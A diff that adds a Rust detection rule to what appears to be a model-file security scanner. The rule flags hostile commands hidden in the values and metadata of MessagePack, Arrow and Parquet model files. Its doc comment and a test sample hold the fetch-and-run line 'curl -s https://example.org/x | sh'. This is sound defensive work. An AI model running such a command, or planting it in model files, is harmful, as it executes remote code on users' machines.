@@ -1,0 +1,74 @@
+use weighhouse_formats::data::DataFacts;
+
+use super::entries;
+use crate::knowledge::commands::{Command, judge};
+use crate::rule::{Context, Rule, quote};
+
+crate::rule! {
+    /// A text in a data file is a command that harms.
+    ///
+    /// # What it detects
+    ///
+    /// In values and metadata of MessagePack, Arrow, Parquet and native models of gradient boosting: commands that download and run,
+    /// open a shell to another machine, or destroy files.
+    ///
+    /// # Why it matters
+    ///
+    /// No model needs a command. What stands in its attributes waits for a script that passes them on.
+    ///
+    /// # Example
+    ///
+    /// The attribute `best_msg` of an XGBoost model: `curl -s https://example.org/x | sh`
+    ///
+    /// # What to do
+    ///
+    /// Do not use the model before its maker has explained the text.
+    ///
+    /// # References
+    ///
+    /// - <https://cwe.mitre.org/data/definitions/506.html>
+    pub(crate) CommandInData {
+        id: "WH-COD-015",
+        slug: "command-in-data",
+        since: "0.1.0",
+        severity: High,
+        confidence: High,
+        formats: [Msgpack, Arrow, Parquet],
+        cwe: [506],
+        owasp: ["LLM03"],
+        atlas: ["AML.T0010"],
+    }
+}
+
+impl Rule for CommandInData {
+    fn data(&self, facts: &DataFacts, cx: &mut Context<'_>) {
+        let root = facts.document.as_ref().and_then(|document| document.value.as_ref());
+        for entry in root.map(entries::of_json).unwrap_or_default() {
+            if let Command::Hostile(why) = judge(entry.value) {
+                cx.report(format!("{} holds a command that {why}", quote(entry.key)))
+                    .at(entry.region)
+                    .key(entry.key)
+                    .evidence(entry.value)
+                    .emit();
+            }
+        }
+        for (key, value) in &facts.metadata {
+            if let Command::Hostile(why) = judge(value) {
+                cx.report(format!("{} holds a command that {why}", quote(key)))
+                    .key(key)
+                    .evidence(value)
+                    .emit();
+            }
+        }
+    }
+}
+
+crate::samples! {
+    CommandInData,
+    bad: {
+        "a command beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xd9\x21curl -s https://example.org/x | sh".to_vec())],
+    },
+    ok: {
+        "a note beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xb0trained for a day".to_vec())],
+    },
+}
